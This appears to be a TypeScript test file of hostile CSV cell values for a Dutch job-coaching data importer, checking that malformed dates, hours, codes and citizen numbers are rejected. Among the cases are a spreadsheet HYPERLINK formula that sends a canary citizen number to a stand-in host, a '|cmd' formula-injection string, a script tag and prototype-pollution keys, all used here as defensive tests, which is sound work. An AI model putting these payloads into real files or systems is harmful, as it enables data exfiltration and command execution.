import { CANARY_BSN, CANARY_NAME } from "../canary.ts";
import { accepted, type CaseLine, casesOf, type Expected } from "../hostile-case.ts";
import { csv } from "../inputs/csv.ts";

const date = (text: string, expect: Expected): CaseLine => [
  `date ${text}`,
  expect,
  "takes it for another day",
  () => csv({ "Ingangsdatum baan": text }),
];
const hours = (text: string, expect: Expected): CaseLine => [
  `hours ${text}`,
  expect,
  "takes it for another number",
  () => csv({ "Uren p/w start": text }),
];
const register = (text: string, expect: Expected): CaseLine => [
  `register ${text}`,
  expect,
  "takes it for yes or for no",
  () => csv({ Doelgroepregister: text }),
];
const person = (text: string, expect: Expected): CaseLine => [
  `person ${text}`,
  expect,
  "takes it for another person",
  () => csv({ BSN: text }),
];
const text = (content: string, expect: Expected): CaseLine => [
  `text ${JSON.stringify(content).slice(0, 40)}`,
  expect,
  "runs it in a spreadsheet or takes it for nothing",
  () => csv({ Regime: content }),
];

/** What stands in the cells. */
const lines: readonly CaseLine[] = [
  date("30-02-2025", "date/no-such-day"),
  date("2025-13-01", "date/no-such-month"),
  date("01-15-2025", "date/no-such-month"),
  date("1-2-26", "date/two-digit-year"),
  date("45292", "date/serial-number"),
  date("15-01-2025 12:30", accepted),
  date("0000-00-00", "employment/no-start"),
  date("01-01-9999", "date/year-out-of-range"),
  date("01-01-0001", "date/year-out-of-range"),
  date("2025-01-15", "date/other-notation"),
  date("15/01/2025", accepted),
  date("15 januari 2025", "date/not-a-date"),
  date("15-01-2025T00:00:00+14:00", accepted),
  [
    "date with 5,000 times behind it",
    "date/not-a-date",
    "takes the times away one by one, and runs out of stack",
    () => csv({ "Ingangsdatum baan": `15-01-2025${" 12:00".repeat(5_000)}` }),
  ],
  hours("1e3", "number/not-a-number"),
  hours("0x1F", "number/not-a-number"),
  hours("NaN", "number/not-a-number"),
  hours("Infinity", "number/not-a-number"),
  hours("-0", "number/not-a-number"),
  hours("-5", "number/not-a-number"),
  hours("12345678901234567890", "number/not-a-number"),
  hours("1.000", "number/out-of-range"),
  hours("24.5", "number/decimal-point"),
  hours("24,5,1", "number/not-a-number"),
  hours("24 uur", "number/not-a-number"),
  hours("168,5", "number/out-of-range"),
  hours("#N/B", "number/not-a-number"),
  register("ja", accepted),
  register("JA ", accepted),
  register("true", "code/unknown-code"),
  register("1", "code/unknown-code"),
  register("y", "code/unknown-code"),
  register("x", "code/unknown-code"),
  register("nee, nog niet", "code/unknown-code"),
  register("NULL", "code/unknown-code"),
  register("n.v.t.", "code/unknown-code"),
  register("-", "code/unknown-code"),
  person("", "person/client-number-only"),
  person("999990018", "person/bsn-fails-test"),
  person("000000000", "person/bsn-fails-test"),
  person("9999900190", "person/bsn-fails-test"),
  person("9,9999E+08", "person/bsn-rounded"),
  person("9999.90.019", "person/bsn-fails-test"),
  person(`${CANARY_BSN} / ${CANARY_NAME}`, "person/bsn-fails-test"),
  person(`'${CANARY_BSN}`, "person/bsn-fails-test"),
  text(`=HYPERLINK("http://x/${CANARY_BSN}")`, "delimited/quote-in-field"),
  text("+1+1", "code/unknown-code"),
  text("@SUM(A1)", "code/unknown-code"),
  text("-2+3|cmd", "code/unknown-code"),
  text(CANARY_BSN, "code/unknown-code"),
  text(`<script>${CANARY_NAME}</script>`, "code/unknown-code"),
  text("constructor", "code/unknown-code"),
  text("__proto__", "code/unknown-code"),
  [
    "number of a person in a column of dates",
    "date/not-a-date",
    "shows it in the message",
    () => csv({ "Startdatum jobcoaching": CANARY_BSN }),
  ],
  [
    "number of a person as client number in a row with a fault",
    "number/not-a-number",
    "shows it as the reference of the row",
    () => csv({ Klantnr: CANARY_BSN, "Uren p/w start": "veel" }),
  ],
];

export const csvValues = casesOf(lines);
